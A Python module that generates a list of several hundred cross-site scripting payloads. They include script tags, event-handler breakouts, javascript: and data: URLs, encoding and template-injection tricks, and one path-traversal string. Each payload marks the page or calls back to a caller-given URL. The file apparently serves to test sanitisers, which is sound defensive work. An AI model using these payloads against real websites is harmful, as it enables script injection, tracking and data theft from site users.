"""Texts that run as a script wherever a page takes what people wrote for a part of itself."""

from __future__ import annotations

MARK = "document.documentElement.setAttribute('data-ran','1')"


def payloads(url: str) -> list[str]:
    """Return more than 200 different payloads; each marks the page, or asks a server at `url`, if it works."""
    leak = f"fetch('{url}/leak')"
    bodies = [MARK, leak, f"new Image().src='{url}/leak.png'"]
    vectors = [
        "<script>{0}</script>", "<SCRIPT SRC={1}/x.js></SCRIPT>", "<scr<script>ipt>{0}</scr</script>ipt>",
        "<img src=x onerror=\"{0}\">", "<img src=x onerror={0}//", "<IMG SRC=\"{1}/pixel.png\">",
        "<svg onload=\"{0}\">", "<svg><script>{0}</script></svg>", "<svg/onload={0}>",
        "<svg><animate onbegin=\"{0}\" attributeName=x dur=1s>", "<body onload=\"{0}\">",
        "<iframe src=\"javascript:{0}\"></iframe>", "<iframe srcdoc=\"<script>parent.{0}</script>\"></iframe>",
        "<object data=\"javascript:{0}\"></object>", "<embed src=\"{1}/embed\">",
        "<link rel=stylesheet href=\"{1}/s.css\">",
        "<link rel=prefetch href=\"{1}/p\">", "<meta http-equiv=refresh content=\"0;url={1}/refresh\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">", "<base href=\"{1}/\">",
        "<form action=\"{1}/form\"><button autofocus onfocus=\"this.form.submit()\"></form>",
        "<input autofocus onfocus=\"{0}\">", "<details open ontoggle=\"{0}\">", "<video src=x onerror=\"{0}\">",
        "<audio src=x onerror=\"{0}\">", "<video poster=\"{1}/poster\">", "<marquee onstart=\"{0}\">",
        "<style>@import '{1}/import.css';</style>", "<style>*{{background:url({1}/css)}}</style>",
        "<div style=\"background:url({1}/style)\">", "<table background=\"{1}/table\">",
        "<a href=\"javascript:{0}\">x</a>", "<math><mtext><img src=x onerror=\"{0}\">",
        "<template><script>{0}</script>",
        "<noscript><p title=\"</noscript><img src=x onerror={0}>\">", "<textarea autofocus onfocus=\"{0}\">",
        "\"><script>{0}</script>", "'><script>{0}</script>", "\" onerror=\"{0}", "' onerror='{0}",
        "\" autofocus onfocus=\"{0}", "' onmouseover='{0}' x='", "\"/><svg onload={0}>", "--><script>{0}</script>",
        "</title><script>{0}</script>", "</style><script>{0}</script>", "</script><script>{0}</script>",
        "</textarea><script>{0}</script>", "]]><script>{0}</script>", "<!--<img src=\"--><img src=x onerror={0}//\">",
        "javascript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}", "\x01javascript:{0}", "vbscript:{0}",
        "data:text/html,<script>{0}</script>", "data:image/svg+xml,<svg onload='{0}'/>",
        "https://x\" onmouseover=\"{0}",
        "https://x'onclick='{0}", "http://x><script>{0}</script>", "https://\"><img src=x onerror={0}>",
        "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;",
        "\\x3cscript\\x3e{0}\\x3c/script\\x3e",
        "\\u003cscript\\u003e{0}\\u003c/script\\u003e", "%3Cscript%3E{0}%3C/script%3E",
        "+ADw-script+AD4-{0}+ADw-/script+AD4-",
        "\uff1cscript\uff1e{0}\uff1c/script\uff1e", "<\x00script>{0}</script>", "<script\x0c>{0}</script>",
        "<script\n>{0}</script\n>", "<script/x>{0}</script>", "<<script>{0}//<</script>", "<script>{0}",
        "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "<%= {0} %>", "{{% {0} %}}", "[x](javascript:{0})",
        "<img src=`x` onerror=`{0}`>", "`><img src=x onerror={0}>", "\u2028<script>{0}</script>",
        "\u202e<script>{0}</script>", "\ufeff<script>{0}</script>", "<x onclick={0} autofocus tabindex=1 onfocus={0}>",
        "<xss id=x tabindex=1 onfocus={0}></xss>", "<keygen autofocus onfocus={0}>",
        "<isindex type=image src=1 onerror={0}>",
        "<image src=x onerror={0}>", "<picture><source srcset=\"{1}/set\"><img src=x onerror={0}></picture>",
        "<img srcset=\"{1}/srcset 1x\">", "<track src=\"{1}/track\">", "<portal src=\"{1}/portal\">",
        "<frameset onload={0}>", "<bgsound src=\"{1}/sound\">", "<html onmouseover={0}>", "<button popovertarget=x>{0}",
        "<div id=search><script>{0}</script></div>", "<input id=search value=\"\" onfocus={0} autofocus>",
        "../../../etc/passwd\"><script>{0}</script>", "file:///x\"><script>{0}</script>", "CON<script>{0}</script>.svg",
    ]  # fmt: skip
    return list(dict.fromkeys(vector.format(body, url) for vector in vectors for body in bodies))
